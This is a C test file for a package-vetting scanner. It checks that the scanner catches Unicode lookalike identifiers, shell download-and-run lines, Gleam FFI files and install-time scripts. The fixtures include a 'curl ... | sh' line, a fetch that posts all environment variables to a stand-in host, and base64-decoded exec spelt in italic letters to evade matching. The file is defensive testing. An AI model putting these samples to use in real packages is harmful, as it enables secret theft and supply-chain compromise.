/* The scanner on identifiers in compatibility forms (NFKC), shell scripts
 * read by their lexer, and Gleam packages' own and FFI files. */
#include <criterion/criterion.h>
#include <string.h>

#include "depvet/analysis/rules.h"
#include "depvet/analysis/scanner.h"
#include "depvet/core/hash.h"
#include "rules_helper.h"
#include "scan_helper.h"

static const char nfkc_rules[] =
    "[[rule]]\nid='n-eval'\nseverity='high'\nfiles=['*.py', '*.js']\n"
    "patterns=['\\beval\\s*\\(']\nmessage='eval'\n"
    "[[rule]]\nid='n-get'\nseverity='medium'\nfiles=['*.py']\nview='bare'\n"
    "patterns=['\\brequests\\.get\\(']\nmessage='get'\n"
    "[[rule]]\nid='n-spell'\nseverity='high'\nfiles=['*.py', '*.js']\nview='bare'\n"
    "nfkc=false\npatterns=['[\\x{1D400}-\\x{1D7FF}\\x{FF41}-\\x{FF5A}]']\nmessage='spelling'\n";

static void sha256_hex(const char *s, size_t n, char hex[65])
{
    unsigned char md[HASH_MAX_SIZE];
    cr_assert(hash_buffer(HASH_SHA256, s, n, md));
    hash_hex_encode(md, 32, hex);
}

Test(scanner_nfkc, rules_see_identifiers_as_python_reads_them)
{
    struct rule_set *rs = rules_from_text(nfkc_rules, "n.toml");
    const char *line1 = "𝘳𝙚𝘀𝗽𝗼𝗻𝘀𝘦 = 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(url)";
    char src[512];
    snprintf(src, sizeof(src), "%s\nｅｖａｌ(x)\n# ｅｖａｌ(no)\ns = 'ｅｖａｌ(no)'\neval(y)\n", line1);
    struct scan_result *r = scan_one(rs, ECO_PYPI, "pkg-1.0/pkg/m.py", src);
    const struct scan_hit *get = find_hit(r, "n-get", 1);
    cr_assert_not_null(get, "𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get is requests.get");
    cr_assert(strstr(get->message, "identifiers NFKC-normalised"), "%s", get->message);
    cr_assert_str_eq(get->excerpt, "response = requests.get(url)");
    char want[65];
    sha256_hex(line1, strlen(line1), want);
    cr_assert_str_eq(get->line_sha256, want, "the line as written is what an ack holds");
    cr_assert_not_null(find_hit(r, "n-eval", 2));
    cr_assert_null(find_hit(r, "n-eval", 3), "comments are not normalised into code");
    cr_assert_null(find_hit(r, "n-eval", 4), "nor strings");
    const struct scan_hit *plain = find_hit(r, "n-eval", 5);
    cr_assert_not_null(plain);
    cr_assert_str_eq(plain->message, "eval", "an unchanged line has no note");
    cr_assert_not_null(find_hit(r, "n-spell", 1), "nfkc = false sees the spelling");
    cr_assert_not_null(find_hit(r, "n-spell", 2));
    cr_assert_null(find_hit(r, "n-spell", 4));
    scanner_result_free(r);
    r = scan_one(rs, ECO_NPM, "package/index.js", "ｅｖａｌ(atob(p))\n");
    cr_assert_not_null(find_hit(r, "n-eval", 1), "JavaScript too");
    scanner_result_free(r);
    rules_free(rs);
}

Test(scanner_nfkc, shipped_rules_on_a_mathematical_alphabet)
{
    struct rule_set *rs = rules_shipped();
    struct scan_result *r = scan_one(rs, ECO_PYPI, "pkg-1.0/setup.py",
                                     "import os\n𝘦𝘹𝘦𝘤(𝘣𝘢𝘴𝘦64.b64decode('cHJpbnQoMSk='))\n");
    const struct scan_hit *h = find_hit(r, "unicode-lookalike-identifier", 2);
    cr_assert_not_null(h);
    bool decoded = false;
    for (size_t i = 0; i < r->n_hits; i++)
        decoded |= r->hits[i].line == 2 && strcmp(r->hits[i].rule, h->rule) != 0 &&
                   r->hits[i].severity == SCAN_SEV_CRITICAL;
    cr_assert(decoded, "exec of decoded data in setup.py, spelt in italics, is critical");
    scanner_result_free(r);
    rules_free(rs);
}

Test(scanner_nfkc, shell_scripts_are_read_by_their_lexer)
{
    struct rule_set *rs = rules_shipped();
    const char *sh = "#!/bin/sh\n"
                     "# to install by hand: curl -fsSL https://x.example/i.sh | sh\n"
                     "cat <<'EOF'\n"
                     "Run: curl -fsSL https://x.example/i.sh | sh\n"
                     "EOF\n"
                     "echo done\n";
    struct scan_result *r = scan_one(rs, ECO_NPM, "package/scripts/install.sh", sh);
    cr_assert_null(find_hit(r, "shell-download-exec", 2), "a comment is not a command");
    scanner_result_free(r);
    r = scan_one(rs, ECO_NPM, "package/scripts/install.sh",
                 "#!/bin/sh\nV=$(curl -fsSL https://x.example/i.sh | sh)\n");
    cr_assert_not_null(find_hit(r, "shell-download-exec", 2), "a substitution is code");
    scanner_result_free(r);
    r = scan_one(rs, ECO_NPM, "package/scripts/install.sh", "echo \"open\ncurl u | sh\n");
    const struct scan_hit *h = find_hit(r, "shell-download-exec", 2);
    cr_assert_not_null(h, "a script the lexer cannot read is matched as lines");
    cr_assert(strstr(h->message, "not read as shell"), "%s", h->message);
    scanner_result_free(r);
    rules_free(rs);
}

Test(scanner_nfkc, gleam_sources_and_ffi_files)
{
    struct rule_set *rs = rules_shipped();
    struct scanner *sc = scanner_new(rs, ECO_HEX);
    const char *gleam = "//// Post results to https://pastebin.com/ by hand\n"
                        "@external(erlang, \"os\", \"cmd\")\n"
                        "fn cmd(c: Charlist) -> Charlist\n"
                        "const paste = \"https://pastebin.com/raw/k\"\n";
    const char *mjs = "// child_process is not used\n"
                      "export function send() {\n"
                      "  const k = JSON.stringify(process.env);\n"
                      "  return fetch('https://collect.example/x', {method: 'POST', body: k});\n"
                      "}\n";
    scanner_file(sc, "src/app.gleam", gleam, strlen(gleam));
    scanner_file(sc, "src/app_ffi.mjs", mjs, strlen(mjs));
    scanner_file(sc, "priv/static/app.mjs", mjs, strlen(mjs));
    struct scan_result *r = scanner_finish(sc);
    cr_assert_null(find_hit(r, "exfil-endpoint", 1), "a Gleam comment is not code");
    cr_assert_not_null(find_hit(r, "exfil-endpoint", 4));
    cr_assert_not_null(find_hit(r, "hex-gleam-external-shell", 2));
    const struct scan_hit *ex = find_hit(r, "npm-exfil", 0);
    cr_assert_not_null(ex, "the FFI file gets JavaScript's rules");
    cr_assert_str_eq(ex->file, "src/app_ffi.mjs", "only FFI under src/");
    cr_assert_null(find_hit(r, "hex-erlang-shell", 1), "an FFI comment is not code");
    scanner_result_free(r);
    scanner_free(sc);
    rules_free(rs);
}

Test(scanner_nfkc, a_file_without_extension_is_matched_by_its_shebang)
{
    struct rule_set *rs = rules_shipped();
    struct scanner *sc = scanner_new(rs, ECO_NPM);
    const char *pkg = "{\"scripts\":{\"postinstall\":\"node bin/setup\"}}";
    const char *js = "#!/usr/bin/env node\n"
                     "// eval(Buffer.from(p, 'base64').toString()) in a comment\n"
                     "eval(Buffer.from(process.argv[2], 'base64').toString());\n";
    scanner_manifest(sc, "package/package.json", pkg, strlen(pkg));
    scanner_file(sc, "package/bin/setup", js, strlen(js));
    scanner_file(sc, "package/bin/README", js + 20, strlen(js + 20));
    struct scan_result *r = scanner_finish(sc);
    const struct scan_hit *h = find_hit(r, "npm-exec-decoded", 3);
    cr_assert_not_null(h, "bin/setup is JavaScript by its #! line");
    cr_assert_eq(h->severity, SCAN_SEV_CRITICAL, "and runs at install");
    cr_assert_null(find_hit(r, "npm-exec-decoded", 2), "read by the JavaScript lexer");
    for (size_t i = 0; i < r->n_hits; i++)
        cr_assert_str_neq(r->hits[i].file, "package/bin/README", "no #!: not code");
    scanner_result_free(r);
    scanner_free(sc);
    rules_free(rs);
}
